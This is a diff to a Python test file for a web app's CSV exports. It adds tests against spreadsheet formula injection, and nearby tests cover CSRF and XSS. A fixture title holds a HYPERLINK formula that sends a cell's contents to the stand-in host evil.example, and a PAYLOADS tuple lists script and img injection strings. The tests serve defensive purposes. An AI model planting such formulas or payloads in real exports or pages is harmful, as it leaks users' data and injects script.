@@ -3,6 +3,8 @@ system, GET routes open the store read-only, the server binds to this machine by
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -14,11 +16,13 @@ from typer.testing import CliRunner
 from conftest import EXAMPLE
 from podium.errors import PodiumError
 from podium.web import create_app
-from podium.web.guard import ALLOWED_HOSTS_ENV, CSRF_COOKIE, host_name
 from podium.web import store as web_store
+from podium.web.guard import ALLOWED_HOSTS_ENV, CSRF_COOKIE, host_name
 from podium.web.ingest import MAX_UPLOAD_BYTES, check_upload, upload_name
 
-from .conftest import HOSTILE_TEXT, WebCorpus, form_fields
+from podium.web.routes.common import csv_cell
+
+from .conftest import BASE_URL, HOSTILE_TEXT, WebCorpus, build_corpus, form_fields
 
 PAYLOADS = ("<script>", "<img src=x", "<b>bold</b>")
 
@@ -218,3 +222,52 @@ def test_a_token_is_good_only_with_its_own_cookie(fresh_client: TestClient) -> N
     fresh_client.cookies.set(CSRF_COOKIE, "A" * 43)  # as a page on another port of this host could
     response = fresh_client.post("/add", data=fields, files={"file": ("example.txt", EXAMPLE.read_bytes(), "text/plain")})
     assert response.status_code == 403
+
+
+# --- CSV formula injection -----------------------------------------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A2, "Press briefing")'
+FORMULA_TEXT = f"""{FORMULA_TITLE}
+
+Alex Moreno:
+
+@SUM(1+1) Exports grew by 5.2% last year; stocks fell -3 tons.
+"""
+
+
+@pytest.fixture
+def formula_client(tmp_path: Path) -> Iterator[TestClient]:
+    build_corpus(tmp_path / "formula.db", [], texts=(FORMULA_TEXT,))
+    with TestClient(create_app(tmp_path / "formula.db"), base_url=BASE_URL) as test_client:
+        yield test_client
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-3 tons", "'-3 tons"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), (-3.5, -3.5), (0, 0), (None, "")],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(value: Any, cell: Any) -> None:
+    assert csv_cell(value) == cell
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("url", ["/figures.csv", "/api/v1/figures?format=csv", "/api/v1/briefings?format=csv", "/api/v1/search?q=exports&format=csv"])
+def test_no_csv_export_carries_a_formula(formula_client: TestClient, url: str) -> None:
+    response = formula_client.get(url)
+    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
+    rows = list(csv.reader(io.StringIO(response.text)))[1:]
+    cells = [cell for row in rows for cell in row]
+    assert rows, "the export is empty"
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not is_number(cell)]
+    if "search" not in url:
+        assert any(cell == "'" + FORMULA_TITLE for cell in cells)
+    if "figures" in url:
+        assert "'-3 tons" in cells
+        assert "-3.0" in [row[8] for row in rows]  # a negative value stays a plain number
